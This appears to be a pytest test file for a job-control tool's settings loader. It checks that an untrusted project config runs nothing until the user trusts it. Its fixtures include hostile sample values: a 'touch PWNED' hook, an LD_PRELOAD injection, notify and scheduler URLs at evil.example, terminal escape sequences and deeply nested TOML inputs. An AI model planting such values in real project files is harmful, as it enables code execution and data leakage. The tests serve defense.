"""A project file of a stranger: what counts before the user trusts it, what does not, and what is said of it."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import pytest

from jobctl.services.settings import trust_record
from jobctl.services.settings.files import LIMIT, settings_files
from jobctl.services.settings.keys import KEYS, RECIPE_KEYS, Key
from jobctl.services.settings.settings import load_settings

#: A value for every key that takes no free text.
SAMPLES = {
    "timeout": "5m",
    "resources": "gpu=1",
    "grace": "5s",
    "backoff": "2s",
    "retry-on": "75",
    "no-retry-on": "75",
    "max-failures": "5%",
    "halt": "now",
    "deadline": "1h",
    "on-crash": "fail",
    "leftovers": "end",
    "rate": "1/s",
    "output-cap": "1M",
    "label": "team=web",
    "invalid": "skip",
    "on-duplicate": "fail",
    "executor": "dask",
    "older-than": "1d",
    "color": "never",
    "ionice": "idle",
    "max-body": "64M",
    "client-timeout": "10s",
}
BY_KIND = {"whole": "2", "switch": "true"}
#: Keys that run, connect, delete, read files or pass the environment on, whatever the table says.
NEVER_SAFE = {
    *("on-done", "notify", "notify-secret-env", "notify-secret-file", "env", "env-file", "env-all", "env-pass"),
    *("executor", "scheduler", "scheduler-file", "cluster", "tls-ca", "tls-cert", "tls-key", "insecure", "older-than"),
    *("command", "shell", "call", "call-setup", "python", "cwd", "allow-http"),
    *("http", "socket", "listen", "no-tcp", "host", "max-body", "max-rows", "max-connections"),
}


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project folder to stand in, with an input; no settings of the user's."""
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("XDG_CONFIG_DIRS", str(tmp_path / "system"))
    project = tmp_path / "project"
    project.mkdir()
    (project / "rows.txt").write_text("a\nb\n")
    monkeypatch.chdir(project)
    return project


def written(key: Key) -> str:
    """A line of TOML that sets a key."""
    return f"{key.name} = " + (BY_KIND.get(key.kind) or json.dumps(SAMPLES.get(key.name, "x")))


def test_every_key_is_declared_safe_or_unsafe() -> None:
    assert [f"{key.section}.{key.name}" for key in (*KEYS, *RECIPE_KEYS) if key.safe is None] == []
    assert {key.name for key in (*KEYS, *RECIPE_KEYS) if key.safe} & NEVER_SAFE == set()


def test_an_undeclared_key_is_not_safe() -> None:
    assert not Key("submit", "new", "text").safe


@pytest.mark.parametrize("key", KEYS, ids=lambda key: f"{key.section}.{key.name}")
def test_each_key_counts_only_as_far_as_it_is_safe(place: Path, jobctl, key: Key) -> None:
    (place / "jobctl.toml").write_text(f"[{key.section}]\n{written(key)}\n")
    settings = load_settings(os.environ, os.getcwd())
    assert (settings.find(key.section, key.name) is not None) == bool(key.safe)
    said = jobctl("config", "show").err
    word = "used" if key.safe else "ignored"
    assert f"{place}/jobctl.toml is not trusted yet\n  {word}: {key.section}.{key.name}" in said
    assert jobctl("config", "trust").code == 0
    assert load_settings(os.environ, os.getcwd()).find(key.section, key.name) is not None
    assert jobctl("config", "show").err == ""


HOSTILE = """
[submit]
slots = 1
on-done = "touch PWNED"
env = ["LD_PRELOAD=/tmp/evil.so"]
env-file = "secrets"
notify = ["https://evil.example/"]

[daemon]
executor = "dask"
scheduler = "tcp://evil.example:8786"
insecure = true

[recipe.build]
shell = "touch PWNED"
"""


def test_a_cloned_project_runs_nothing_and_one_notice_names_the_ignored_keys(place: Path, jobctl) -> None:
    (place / "jobctl.toml").write_text(HOSTILE)
    ran = jobctl("run", "rows.txt", "-q", "--", "sh", "-c", 'test -z "$LD_PRELOAD"')
    assert ran.code == 0
    assert not (place / "PWNED").exists()
    notices = [line for line in ran.err.splitlines() if "jobctl.toml" in line]
    assert len(notices) == 1
    for name in ("on-done", "env", "env-file", "notify"):
        assert f"submit.{name}" in ran.err
    for name in ("executor", "scheduler", "insecure"):
        assert f"daemon.{name}" in ran.err
    assert "[recipe.build]" in ran.err
    assert "jobctl config trust" in ran.err


def test_safe_keys_are_used_and_reported_unless_quiet(place: Path, jobctl) -> None:
    (place / "jobctl.toml").write_text('[submit]\nslots = 1\nlabel = ["team=web"]\n')
    said = jobctl("submit", "rows.txt", "--json", "--", "true")
    assert (said.document["policy"]["slots"], said.document["labels"]) == (1, {"team": "web"})
    assert "used: submit.slots, submit.label" in said.err
    assert "trust" not in jobctl("submit", "rows.txt", "-q", "--", "true", "{}").err


def test_trust_holds_until_the_file_changes(place: Path, jobctl) -> None:
    file = place / "jobctl.toml"
    file.write_text('[submit]\nenv = ["A=1"]\n')
    assert jobctl("config", "trust").out == f"trusted {file}\n"
    assert "jobctl.toml" not in jobctl("submit", "rows.txt", "--", "true").err
    file.write_text('[submit]\nenv = ["A=2"]\n')
    said = jobctl("submit", "rows.txt", "-q", "--", "true", "{}")
    assert f"{file} has changed since it was trusted\n  ignored: submit.env" in said.err
    assert f"project\t{file}\tread, changed since it was trusted" in jobctl("config", "path").out
    file.write_text('[submit]\nenv = ["A=1"]\n')  # back to the branch before
    assert "jobctl.toml" not in jobctl("submit", "rows.txt", "-q", "--", "true", "{}", "x").err
    assert jobctl("config", "untrust").out == f"{file} is not trusted any more\n"
    assert "not trusted yet" in jobctl("submit", "rows.txt", "--", "true").err
    assert "was not trusted" in jobctl("config", "untrust", place).out


def test_a_copy_elsewhere_is_not_trusted(place: Path, jobctl, monkeypatch: pytest.MonkeyPatch) -> None:
    text = '[submit]\nenv-file = "x"\n'
    (place / "jobctl.toml").write_text(text)
    jobctl("config", "trust", ".")
    copy = place / "copy"
    copy.mkdir()
    (copy / "jobctl.toml").write_text(text)
    link = place / "link"
    link.mkdir()
    (link / "jobctl.toml").symlink_to(place / "jobctl.toml")
    for folder in (copy, link):
        assert load_settings(os.environ, str(folder)).value("submit", "env-file") is None
    monkeypatch.chdir(place)
    assert load_settings(os.environ, str(place)).value("submit", "env-file") == str(place / "x")


def test_a_recipe_of_an_untrusted_file_is_refused_and_can_be_looked_at(place: Path, jobctl) -> None:
    (place / "jobctl.toml").write_text(HOSTILE)
    for words in (("submit", "rows.txt", "--recipe", "build"), ("run", "rows.txt", "-q", "--recipe", "build")):
        said = jobctl(*words)
        assert said.code == 2
        assert f"the recipe 'build' is not used: {place}/jobctl.toml is not trusted yet" in said.err
        assert "jobctl config trust" in said.err
    assert jobctl("recipe", "list").out == ""
    assert jobctl("recipe", "list", "--json").document["recipes"] == []
    assert 'shell = "touch PWNED"' in jobctl("recipe", "show", "build").out
    (place / "jobctl.toml").write_text('[recipe.build]\nshell = "touch PWNED"\n')
    jobctl("config", "trust")
    assert jobctl("submit", "rows.txt", "--recipe", "build", "--json").document["command"] == "touch PWNED"


def test_a_recipe_of_the_user_does_not_step_in_for_one_that_is_refused(place: Path, jobctl) -> None:
    user = place.parent / "config" / "jobctl" / "config.toml"
    user.parent.mkdir(parents=True)
    user.write_text("[recipe.build]\nshell = 'make'\n[recipe.own]\nshell = 'own'\n")
    (place / "jobctl.toml").write_text(HOSTILE)
    assert jobctl("submit", "rows.txt", "--recipe", "build").code == 2
    assert jobctl("submit", "rows.txt", "--recipe", "own").code == 0


def test_prune_does_not_guess_an_age(place: Path, jobctl) -> None:
    (place / "jobctl.toml").write_text('[prune]\nolder-than = "0s"\n')
    said = jobctl("prune")
    assert said.code == 2
    assert "it sets prune.older-than" in said.err
    assert jobctl("prune", "--older-than", "1d").code == 0


def test_the_documents_say_how_the_file_is(place: Path, jobctl) -> None:
    (place / "jobctl.toml").write_text(HOSTILE)
    document = jobctl("config", "show", "--json").document
    assert document["files"][0]["trust"] == "untrusted"
    assert {entry["key"] for entry in document["ignored"]} >= {"submit.on-done", "daemon.insecure", "recipe.build"}
    checks = {check["name"]: check for check in jobctl("doctor", "--json").document["checks"]}
    assert "is not trusted yet" in checks["settings"]["message"]
    assert jobctl("config", "trust", "--json").document["trust"] == "trusted"
    assert jobctl("config", "path", "--json").document["files"][0]["trust"] == "trusted"


def test_trust_refuses_a_missing_an_invalid_and_an_exposed_file(place: Path, jobctl) -> None:
    assert jobctl("config", "trust").code == 9
    (place / "jobctl.toml").write_text("[submit\n")
    assert "is not TOML" in jobctl("config", "trust").err
    (place / "jobctl.toml").write_text("")
    (place / "jobctl.toml").chmod(0o666)
    assert "everybody can write it" in jobctl("config", "trust").err
    assert jobctl("config", "trust", "rows.txt").code == 2


DEEP = {
    "arrays": "a = " + "[" * 60_000,
    "tables": "a = {" + "a = {" * 20_000,
    "keys": "a" + ".a" * 60_000 + " = 1",
    "quoted keys": '"a b"' + ' . "a b"' * 20_000 + " = 1",
    "a header": "[a" + ".a" * 60_000 + "]",
    "a number": "[submit]\nslots = " + "9" * 50_000,
    "a hexadecimal number": "[submit]\nslots = 0x" + "f" * 50_000,
    "a wrong value": "[submit]\nslots = '" + "x" * 50_000 + "'",
    "nested values": "[submit]\nslots = " + "[" * 200 + "]" * 200,
    "not text": "\ud800",
    "too large": "#" * LIMIT + "\n",
}


@pytest.mark.parametrize("case", DEEP)
def test_a_file_that_is_too_large_is_refused_quickly_and_in_few_words(place: Path, jobctl, case: str) -> None:
    (place / "jobctl.toml").write_bytes(DEEP[case].encode("utf-8", "surrogatepass"))
    begun = time.process_time()
    said = jobctl("config", "show")
    assert time.process_time() - begun < 10
    assert said.code == 2
    assert f"{place}/jobctl.toml" in said.err
    assert len(said.err) < 2000
    assert "bug" not in said.err
    assert jobctl("status").code == 0


def test_a_file_that_is_not_regular_is_not_waited_for(place: Path, jobctl) -> None:
    file = place / "jobctl.toml"
    user = place.parent / "config" / "jobctl" / "config.toml"
    user.parent.mkdir(parents=True)
    for path in (file, user):
        os.mkfifo(path)
        assert jobctl("submit", "rows.txt", "-n", "--", "true").code == 0
        path.unlink()
        path.symlink_to("/dev/zero")
        assert jobctl("submit", "rows.txt", "-n", "--", "true").code == 0
        path.unlink()
        path.mkdir()
        assert jobctl("submit", "rows.txt", "-n", "--", "true").code == 0


def test_a_sparse_file_of_a_gigabyte_is_not_read(place: Path, jobctl) -> None:
    with (place / "jobctl.toml").open("wb") as file:
        file.truncate(1 << 30)
    assert "is larger than" in jobctl("submit", "rows.txt", "--", "true").err


def test_a_record_is_private_and_one_that_others_could_have_written_counts_as_none(place: Path) -> None:
    folder, path = str(place.parent / "config" / "jobctl"), str(place / "jobctl.toml")
    trust_record.grant(folder, path, b"x")
    (record,) = (place.parent / "config" / "jobctl" / "trusted").iterdir()
    assert record.stat().st_mode & 0o777 == 0o600
    assert record.parent.stat().st_mode & 0o777 == 0o700
    assert trust_record.state(folder, path, b"x") == "trusted"
    assert trust_record.state(folder, path, b"y") == "changed"
    for mode in (0o620, 0o602):
        record.chmod(mode)
        assert trust_record.state(folder, path, b"x") == "untrusted"
    record.chmod(0o600)
    record.parent.chmod(0o770)
    assert trust_record.state(folder, path, b"x") == "untrusted"
    record.parent.chmod(0o700)
    for text in ("", "[" * 100_000, "[]", "{}", '{"path": 1, "sha256": 2}', json.dumps({"path": path, "sha256": 3})):
        record.write_text(text)
        assert trust_record.state(folder, path, b"x") == "untrusted"
    target = place / "elsewhere.json"
    record.unlink()
    trust_record.grant(folder, path, b"x")
    record.rename(target)
    record.symlink_to(target)
    assert trust_record.state(folder, path, b"x") == "untrusted"


def test_no_more_than_some_contents_of_a_path_are_kept(place: Path) -> None:
    folder, path = str(place.parent / "config"), str(place / "jobctl.toml")
    for number in range(20):
        trust_record.grant(folder, path, b"%d" % number)
    states = [trust_record.state(folder, path, b"%d" % number) for number in range(20)]
    assert states == ["changed"] * 4 + ["trusted"] * 16


def test_a_path_that_is_not_text_can_be_trusted(place: Path) -> None:
    folder, path = str(place.parent / "config"), os.fsdecode(b"/tmp/\xff/jobctl.toml")
    trust_record.grant(folder, path, b"x")
    assert trust_record.state(folder, path, b"x") == "trusted"
    assert trust_record.revoke(folder, path)
    assert not trust_record.revoke(folder, path)


def test_root_leaves_nothing_in_the_home_of_another_user(place: Path, jobctl) -> None:
    if os.geteuid() != 0:
        pytest.skip("only root can make a file of another user")
    (place / "jobctl.toml").write_text("")
    home = place.parent / "config"
    home.mkdir()
    os.chown(home, 65534, 65534)
    said = jobctl("config", "trust")
    assert said.code == 2
    assert "belongs to another user" in said.err
    assert list(home.iterdir()) == []


def test_settings_of_the_user_are_never_looked_for_in_the_working_directory(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for planted in ("~/.config", "relative"):
        (place / planted / "jobctl").mkdir(parents=True)
        (place / planted / "jobctl" / "config.toml").write_text('[submit]\non-done = "touch PWNED"\n')
    monkeypatch.setenv("HOME", "~")
    for variables in ({"XDG_CONFIG_HOME": "relative", "XDG_CONFIG_DIRS": "relative:"}, {"XDG_CONFIG_DIRS": "relative"}):
        assert load_settings(variables, str(place)).layers == []
        assert all(os.path.isabs(found.path) for found in settings_files(variables, str(place)) if found.exists)


def test_files_of_the_user_that_others_can_write_are_passed_by(place: Path, jobctl) -> None:
    user = place.parent / "config" / "jobctl" / "config.toml"
    user.parent.mkdir(parents=True)
    user.write_text("[submit]\nslots = 3\n")

    def told() -> str:
        return jobctl("config", "path").out.splitlines()[1].split("\t")[2]

    assert told() == "read"
    user.chmod(0o666)
    assert told() == "not read: everybody can write it"
    assert f"{user} is not read" in jobctl("submit", "rows.txt", "-q", "--", "true").err
    user.chmod(0o644)
    user.parent.chmod(0o777)
    assert told() == "not read: everybody can write its folder"
    user.parent.chmod(0o755)
    if os.geteuid() == 0:
        user.chmod(0o664)
        os.chown(user, 0, 65534)
        assert told() == "not read: its group can write it"
        os.chown(user, 65534, 65534)
        assert told() == "not read: it belongs to another user"


def test_a_link_of_another_user_is_passed_by(place: Path, jobctl) -> None:
    if os.geteuid() != 0:
        pytest.skip("only root can make a file of another user")
    (place / "own.toml").write_text("[submit]\nslots = 3\n")
    (place / "jobctl.toml").symlink_to("own.toml")
    os.lchown(place / "jobctl.toml", 65534, 65534)
    assert "not read: it is a link of another user" in jobctl("config", "path").out


def test_nothing_that_a_file_names_acts_on_a_terminal(place: Path, jobctl, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = place / "a\x1b]0;owned\x07\nb"
    folder.mkdir()
    (folder / "rows.txt").write_text("a\n")
    (folder / "jobctl.toml").write_text(
        '[submit]\non-done = "\\u001b[31m"\nqueue = "\\u001b[2J"\n[recipe."x\\u001b[2J\\ny"]\nshell = "\\u001b[2J"\n'
    )
    monkeypatch.chdir(folder)
    name = "x\x1b[2J\ny"
    commands = [("recipe", "list"), ("recipe", "show", name), ("submit", "rows.txt", "--recipe", name)]
    commands += [("config", "show"), ("config", "path"), ("doctor",), ("config", "trust"), *commands]
    for words in commands:
        said = jobctl(*words)
        assert "\x1b" not in said.out + said.err, words
        assert "owned\x07" not in said.out + said.err, words
